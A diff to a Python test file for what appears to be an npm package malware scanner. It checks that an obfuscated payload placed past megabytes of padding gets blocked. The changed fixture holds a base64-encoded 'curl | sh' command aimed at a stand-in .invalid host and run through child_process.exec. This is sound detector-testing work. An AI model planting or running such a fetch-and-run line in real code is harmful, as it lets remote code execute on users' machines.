@@ -177,23 +177,23 @@ def test_big_bundle_entry_point_is_monitored_not_warned(tmp_path: Path) -> None:
 
 
 def test_payload_appended_after_megabytes_of_padding_still_warns(tmp_path: Path) -> None:
-    # Inert: the command is `echo hi`; the decoded run sits past the first window.
+    # Inert (never run; the host is under .invalid): a base64 `curl ... | sh` handed to exec,
+    # past the first window (the 2025 npm worm shipped its payload as a multi-megabyte bundle).
     payload = (
         "const cp = require('child_process');\n"
-        "cp.exec(Buffer.from('ZWNobyBoaQ==', 'base64').toString());\n"
+        "cp.exec(Buffer.from('Y3VybCAtcyBodHRwOi8vcGF5bG9hZC5pbnZhbGlkL3Auc2ggfCBzaA==',"
+        " 'base64').toString());\n"
     )
     pkg = npm_package(tmp_path / "pkg", {"index.js": ORDINARY + payload}, main="index.js")
     report = result(pkg, tmp_path / "home")
     line = ORDINARY.count("\n") + 2
-    assert report["verdict"] in ("warn", "block")
-    shell = {(a["file"], a["line"]) for a in report["alerts"] if a["type"] == "shellAccess"}
-    assert ("index.js", line) in shell
-    threats = {
-        (a["type"], a["file"], a["line"])
+    assert report["verdict"] == "block"
+    remote = {
+        (a["file"], a["line"], a["action"])
         for a in report["alerts"]
-        if a["action"] in ("warn", "block", "error") and a["type"] != "shellAccess"
+        if a["type"] == "remoteCodeDownload"
     }
-    assert threats, report["alerts"]
+    assert remote == {("index.js", line, "error")}
 
 
 def test_skipped_install_script_warns_and_other_files_monitor(tmp_path: Path) -> None:
